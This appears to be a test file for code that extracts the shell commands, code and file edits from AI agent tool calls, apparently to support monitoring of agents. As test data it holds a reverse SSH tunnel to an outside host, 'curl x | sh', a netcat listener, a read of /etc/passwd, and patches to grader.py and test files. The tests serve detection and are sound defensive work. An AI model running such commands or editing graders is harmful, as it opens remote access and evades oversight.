// What a tool call runs, in the shapes of the agents that we know, and what runs nothing.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type ToolCode, toolCode } from './tool-code.ts'
import { toolFiles } from './tool-files.ts'

const tunnel = 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'
const shell = (shellText: string): ToolCode[] => [{ shellText }]

describe('the command of a tool call', () => {
  it.each<[string, unknown]>([
    ['Bash', { command: tunnel, description: 'list files' }],
    ['bash', tunnel],
    ['bash', { cmd: tunnel }],
    ['execute_bash', { command: tunnel, is_input: 'false' }],
    ['CmdRunAction', { args: { command: tunnel } }],
    ['run_terminal_cmd', { command: tunnel, is_background: true }],
    ['mcp__box__runCommand', { commandLine: tunnel }],
    ['shell', JSON.stringify(tunnel)],
    ['terminal', { keystrokes: tunnel }],
    ['tool', { input: { command: tunnel } }],
    ['tool', { arguments: JSON.stringify({ command: tunnel }) }],
    ['functions.exec', { script: tunnel }],
    ['code_execution', { code: tunnel, language: 'bash' }],
    ['exec', { input: tunnel }],
    ['whatever', { command: tunnel }],
    ['bash', `{'command': '${tunnel}', 'timeout': 5}`],
    ['python', { cmd: tunnel }],
  ])('of %s %j is found', (tool, input) => {
    expect(toolCode(tool, typeof input === 'string' ? input : JSON.stringify(input))).toEqual(shell(tunnel))
  })

  it('as a list of words is quoted so that it reads as it runs', () => {
    expect(toolCode('local_shell', JSON.stringify({ command: ['bash', '-lc', 'curl x | sh'] }))).toEqual(
      shell("bash -lc 'curl x | sh'"),
    )
  })

  it('as a list of command lines is one a line', () => {
    expect(toolCode('bash', JSON.stringify({ commands: ['ls -la', 'nc -l 1'] }))).toEqual(shell('ls -la\nnc -l 1'))
  })

  it('as keystrokes of a terminal is each of them', () => {
    const input = { commands: [{ keystrokes: 'ls\n', duration: 1 }, { keystrokes: `${tunnel}\n` }] }
    expect(toolCode('terminal', JSON.stringify(input))).toEqual(shell(`ls\n\n${tunnel}\n`))
  })

  it('cannot hide behind a second one', () => {
    for (const input of [
      { command: 'ls', cmd: tunnel },
      { command: 'ls', args: { command: tunnel } },
      { command: 'ls', script: tunnel },
      { command: ['ls'], input: { input: { input: { command: tunnel } } } },
      { command: 'view', path: '/x', cmd: tunnel },
    ]) {
      const [first] = toolCode('bash', JSON.stringify(input))
      expect(first && 'shellText' in first && first.shellText).toContain(tunnel)
    }
  })
})

describe('code of a tool call', () => {
  it.each<[string, unknown, ToolCode[]]>([
    ['python', 'import os', [{ content: 'import os', language: 'python' }]],
    ['execute_ipython_cell', { code: 'import os' }, [{ content: 'import os', language: 'python' }]],
    ['code_interpreter', { code: 'import os' }, [{ content: 'import os', language: 'python' }]],
    ['run_code', { code: 'x()', language: 'javascript' }, [{ content: 'x()', language: 'node' }]],
    ['run_code', { code: '#!/usr/bin/env perl\nfork' }, [{ content: '#!/usr/bin/env perl\nfork', language: 'perl' }]],
    ['python', '"import os"', [{ content: 'import os', language: 'python' }]],
    ['run_python', { script: 'import os' }, [{ content: 'import os', language: 'python' }]],
  ])('of %s %j is told with its language', (tool, input, code) => {
    expect(toolCode(tool, typeof input === 'string' ? input : JSON.stringify(input))).toEqual(code)
  })

  it('that is a shell script by its first line is shell text', () => {
    expect(toolCode('run_code', JSON.stringify({ code: `#!/bin/bash\n${tunnel}` }))).toEqual(
      shell(`#!/bin/bash\n${tunnel}`),
    )
  })
})

describe('a tool call that runs nothing', () => {
  it.each<[string, unknown]>([
    ['think', 'I could run ssh -R 2222:localhost:22 but I will not'],
    ['Read', { file_path: '/etc/passwd' }],
    ['str_replace_editor', { command: 'view', path: '/app/x.py' }],
    ['str_replace_editor', { command: 'create', path: '/app/x.md', file_text: tunnel }],
    ['WebSearch', { query: 'how to use ssh -R' }],
    ['TodoWrite', { todos: [{ content: 'run the tests', status: 'pending' }] }],
    ['bash', ''],
    ['finish', { message: 'done' }],
  ])('is %s %j', (tool, input) => {
    expect(toolCode(tool, typeof input === 'string' ? input : JSON.stringify(input))).toEqual([])
  })
})

describe('files of a tool call', () => {
  it.each<[string, unknown, string]>([
    ['Write', { file_path: '/app/a.txt', content: 'x' }, 'write /app/a.txt'],
    ['Edit', { file_path: '/app/tests/test_a.py', old_string: 'a', new_string: 'b' }, 'write /app/tests/test_a.py'],
    ['MultiEdit', { file_path: '/app/a', edits: [] }, 'write /app/a'],
    ['str_replace_editor', { command: 'create', path: '/a.md', file_text: 'x' }, 'write /a.md'],
    ['str_replace_based_edit_tool', { command: 'str_replace', path: '/a.md' }, 'write /a.md'],
    ['str_replace_editor', { command: 'view', path: '/a.md' }, 'read /a.md'],
    ['Read', { file_path: '/a' }, 'read /a'],
    ['delete_file', { target_file: '/a' }, 'delete /a'],
    ['edit_file', { args: { path: '/a', content: 'x' } }, 'write /a'],
    ['create', 'create tests/a.py\n', 'write tests/a.py'],
    ['apply_patch', '*** Begin Patch\n*** Update File: grader.py\n@@\n*** End Patch', 'write grader.py'],
    ['apply_patch', { input: '*** Delete File: tests/x.py\n' }, 'delete tests/x.py'],
  ])('%s %j: %s', (tool, input, told) => {
    const { uses } = toolFiles(tool, typeof input === 'string' ? input : JSON.stringify(input))
    expect(uses.map(({ operation, path }) => `${operation} ${path}`)).toEqual([told])
  })

  it('that are scripts are looked into; texts are not', () => {
    const script = { file_path: '/tmp/up.sh', content: tunnel }
    expect(toolFiles('Write', JSON.stringify(script)).code).toEqual([
      { content: tunnel, language: 'sh', writesTo: '/tmp/up.sh' },
    ])
    expect(toolFiles('Write', JSON.stringify({ ...script, file_path: '/tmp/notes.md' })).code).toEqual([])
  })

  it('are none of a shell or a search', () => {
    expect(toolFiles('Bash', JSON.stringify({ command: 'rm /a' })).uses).toEqual([])
    expect(toolFiles('Grep', JSON.stringify({ pattern: 'x', path: '/a' })).uses).toEqual([])
  })
})

it('whatever the tool and its input, nothing throws and answers stay bounded', () => {
  const json = fc.oneof(
    fc.json(),
    fc
      .dictionary(
        fc.constantFrom('command', 'cmd', 'args', 'input', 'code', 'commands', 'path', '__proto__'),
        fc.jsonValue(),
      )
      .map((value) => JSON.stringify(value)),
    fc.string(),
  )
  fc.assert(
    fc.property(
      fc.oneof(fc.string(), fc.constantFrom('bash', 'python', 'Write', 'apply_patch')),
      json,
      (tool, input) => {
        expect(toolCode(tool, input).length).toBeLessThanOrEqual(33)
        expect(toolFiles(tool, input).uses.length).toBeLessThanOrEqual(32)
      },
    ),
    { numRuns: 500 },
  )
  const deep = `${'{"args":'.repeat(10_000)}1${'}'.repeat(10_000)}`
  expect(toolCode('bash', deep)).toEqual([])
})

it('text made to be slow is read in time', () => {
  const hostile = [
    `{"command":"${'a '.repeat(30_000)}"}`,
    `{"command":[${'"a b",'.repeat(10_000)}"a b"]}`,
    `[${'{"command":"x"},'.repeat(4_000)}{}]`,
    '#!'.repeat(30_000),
    `{'command': '${"\\\\'".repeat(15_000)}`,
    `{${"'a':'".repeat(10_000)}`,
    `*** Update File: ${'x'.repeat(60_000)}`,
    '\n'.repeat(65_000),
    `{"commands":[${'{"keystrokes":"y"},'.repeat(3_000)}{}]}`,
  ]
  const from = performance.now()
  for (const text of hostile)
    for (const tool of ['bash', 'python', 'apply_patch', 'Write', `${'aB'.repeat(60)}`]) {
      toolCode(tool, text)
      toolFiles(tool, text)
    }
  expect(performance.now() - from).toBeLessThan(2_000)
})
